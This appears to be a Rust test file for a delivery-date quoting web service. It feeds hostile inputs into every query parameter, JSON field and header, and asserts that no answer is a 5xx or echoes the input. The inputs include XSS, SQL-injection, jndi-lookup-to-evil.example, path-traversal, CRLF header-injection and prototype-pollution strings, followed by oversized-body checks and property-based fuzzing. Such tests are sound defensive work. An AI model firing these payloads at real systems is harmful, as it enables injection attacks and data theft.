//! Whatever is sent, the door answers, says nothing of it back, and never with a 5xx.

use proptest::{prelude::*, test_runner::Config};
use serde_json::{Value, json};
use shell::{Answer, HttpRequest};

use super::house::{House, body, cart, get, now, post};

const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; DROP TABLE orders; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../etc/passwd",
    "\u{202e}evil",
    "\u{0}",
    "𝕿𝖊𝖆",
    "a\r\nset-cookie: x=y",
    "1e400",
    "-9223372036854775808",
    "NaN",
    "__proto__",
];

/// What must never happen, whatever was asked.
fn look(answer: &Answer, what: &str) {
    assert!(answer.status < 500, "{what}: {}", answer.status);
    for (name, value) in answer.all_headers() {
        assert!(!value.contains(['\r', '\n']), "{what}: {name}");
        assert!(!value.contains("<script"), "{what}: {name}");
    }
    let text = answer.body.to_text();
    for forbidden in ["<script>alert", "onerror=", "DROP TABLE", "jndi", "panicked"] {
        assert!(!text.contains(forbidden), "{what}: {forbidden} in {text:.300}");
    }
}

#[tokio::test(start_paused = true)]
async fn hostile_texts_in_every_place_come_back_from_none() {
    let house = House::new().await;
    let names = [
        "shop",
        "sku",
        "item",
        "variant",
        "quantity",
        "country",
        "subdivision",
        "postcode",
        "kind",
        "service",
        "locale",
        "explain",
        "cash_on_delivery",
        "grams",
    ];
    let mut asked = 0;
    for text in TEXTS {
        for name in names {
            for doing in ["", "serves"] {
                let mut question = get(doing, "shop=acme&country=DE&sku=TEA-1");
                question.query.retain(|(known, _)| known != name);
                question.query.push((name.into(), (*text).into()));
                question.headers.push(("origin".into(), (*text).into()));
                look(&house.at(question, now()).await, &format!("{name}={text}"));
                asked += 1;
            }
        }
        for pointer in [
            "/shop",
            "/lines/0/id",
            "/lines/0/sku",
            "/lines/0/quantity",
            "/lines/0",
            "/lines",
            "/destination",
            "/destination/country",
            "/destination/postcode",
            "/destination/subdivision",
            "/destination/kind",
            "/service",
            "/locale",
            "/explain",
        ] {
            for doing in ["quote", "quotes"] {
                let mut question = cart(&json!([{"id": "1", "sku": "TEA-1", "quantity": 1}]));
                for (name, value) in
                    [("service", json!("x")), ("locale", json!("de")), ("explain", json!(true))]
                {
                    question[name] = value;
                }
                for (name, value) in [("subdivision", "BY"), ("kind", "address")] {
                    question["destination"][name] = value.into();
                }
                *question.pointer_mut(pointer).expect("a place") = json!(text);
                look(&house.post(doing, &question).await, &format!("{pointer}: {text}"));
                asked += 1;
            }
        }
        // As the name of a field.
        let mut question = cart(&json!([{"sku": "TEA-1"}]));
        question[*text] = json!(1);
        look(&house.post("quote", &question).await, text);
        look(&house.get(text, "").await, text);
        asked += 2;
    }
    println!(
        "figure: S7 {asked} hostile questions to the door of delivery dates: 0 answers of 5xx, nothing of them repeated"
    );
}

#[tokio::test(start_paused = true)]
async fn huge_and_deep_bodies_are_refused() {
    let house = House::new().await;
    let lines = vec![json!({"sku": "TEA-1"}); 10_000];
    let deep = format!("{{\"shop\": {}1{}}}", "[".repeat(5_000), "]".repeat(5_000));
    let numbers = r#"{"shop": "acme", "lines": [{"sku": "TEA-1", "quantity": 1e999}], "destination": {"country": "DE"}}"#;
    let long =
        json!({"shop": "acme", "lines": [{"sku": "x".repeat(1000)}], "destination": {"country": "DE"}})
            .to_string();
    for (what, body_text, status) in [
        ("10,000 lines", cart(&json!(lines)).to_string(), 413),
        ("a deep body", deep, 400),
        ("a number beyond all", numbers.into(), 400),
        ("a long name", long, 422),
        ("a body of zeros", "\0".repeat(1000), 400),
        ("a body of many megabytes", "[".repeat(5_000_000), 413),
    ] {
        let answer = house.at(post("quote", body_text.into_bytes()), now()).await;
        assert_eq!(answer.status, status, "{what}: {}", body(&answer));
    }
}

fn any_value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        ".{0,40}".prop_map(Value::from),
        proptest::sample::select(TEXTS).prop_map(Value::from),
    ];
    let names = prop_oneof![
        proptest::sample::select(&["shop", "sku", "quantity", "country", "id", "kind"][..])
            .prop_map(str::to_owned),
        ".{0,12}"
    ];
    leaf.prop_recursive(3, 24, 6, move |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            proptest::collection::btree_map(names.clone(), inner, 0..6)
                .prop_map(|fields| Value::Object(fields.into_iter().collect())),
        ]
    })
}

/// A question that is nearly one: a sound cart, with whatever in one of its places.
fn any_question() -> impl Strategy<Value = HttpRequest> {
    let places = &[
        "/shop",
        "/lines",
        "/lines/0",
        "/lines/0/sku",
        "/lines/0/quantity",
        "/destination",
        "/destination/country",
        "/destination/postcode",
    ][..];
    let doings = &["", "quote", "quotes", "serves", "openapi.json", "nightshift.js", "else"][..];
    let methods = &["GET", "POST", "OPTIONS", "HEAD", "PATCH"][..];
    let pairs = proptest::collection::vec(
        (
            proptest::sample::select(
                &["shop", "sku", "country", "postcode", "quantity", "locale", "kind", "service"][..],
            ),
            prop_oneof![".{0,30}", "acme|DE|1|TEA-1|de|po-box"],
        ),
        0..8,
    );
    let body = prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..200),
        any_value().prop_map(|value| value.to_string().into_bytes()),
        (proptest::sample::select(places), any_value()).prop_map(|(place, value)| {
            let mut question = cart(&json!([{"sku": "TEA-1", "quantity": 1}]));
            *question.pointer_mut(place).expect("a place") = value;
            question.to_string().into_bytes()
        }),
    ];
    (proptest::sample::select(doings), proptest::sample::select(methods), pairs, body).prop_map(
        |(doing, method, pairs, body)| {
            let query = pairs.into_iter().map(|(name, value)| (name.to_owned(), value)).collect();
            HttpRequest { method: method.into(), query, ..post(doing, body) }
        },
    )
}

/// ED-17: no question panics, and none is answered with a 5xx.
#[test]
fn no_question_panics_or_is_answered_with_a_5xx() {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    let house = runtime.block_on(House::new());
    let cases = if testkit::is_full() { 200_000 } else { 10_000 };
    let config = Config { cases, failure_persistence: None, ..Config::default() };
    proptest!(config, |(asked in any_question(), seconds in -5_000_000_000_i64..200_000_000_000)| {
        let now = domain::Timestamp::from_second(seconds).expect("in range");
        let answer = runtime.block_on(house.at(asked, now));
        prop_assert!(answer.status < 500, "{}", answer.status);
    });
    println!("figure: ED-17 {cases} random questions: 0 panics, 0 answers of 5xx");
}
